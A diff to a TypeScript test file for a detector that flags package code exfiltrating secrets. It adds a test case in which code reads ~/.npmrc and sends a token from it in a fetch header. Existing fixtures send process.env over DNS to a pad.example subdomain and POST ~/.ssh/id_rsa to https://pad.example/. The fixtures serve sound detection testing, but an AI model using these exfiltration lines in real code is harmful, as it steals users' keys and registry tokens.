@@ -19,6 +19,9 @@ const added = async (files: Record<string, string>) => ({ package: await anAnaly
 const lookup = `const text = Buffer.from(JSON.stringify(process.env)).toString('hex')
 require('dns').lookup(text.slice(0, 60) + '.pad.example', () => {})`
 const readsKey = "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')"
+const readsSettings =
+  "const own = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').split('=')"
+const asks = 'fetch(own[1], { headers: { authorization: own[3] } })'
 const posts = "fetch('https://pad.example/', { method: 'POST', body: key })"
 
 testRule(secretsExfiltrated, {
@@ -162,6 +165,21 @@ testRule(secretsExfiltrated, {
           ['credentials', readsKey, 'lib/x.js', 1, 40],
           ['goes to the network', posts, 'lib/x.js', 2, 1],
         ),
+      ],
+    },
+    {
+      name: 'settings that may name the registry that is asked',
+      subject: addition,
+      facts: await added({ 'index.js': `module.exports = () => {\n${readsSettings}\n${asks}\n}` }),
+      observations: [
+        {
+          ...observation(
+            'medium',
+            ['credentials', readsSettings, 'index.js', 2, 40],
+            ['goes to the network', asks, 'index.js', 3, 1],
+          ),
+          confidence: 'low',
+        },
       ],
     },
   ],
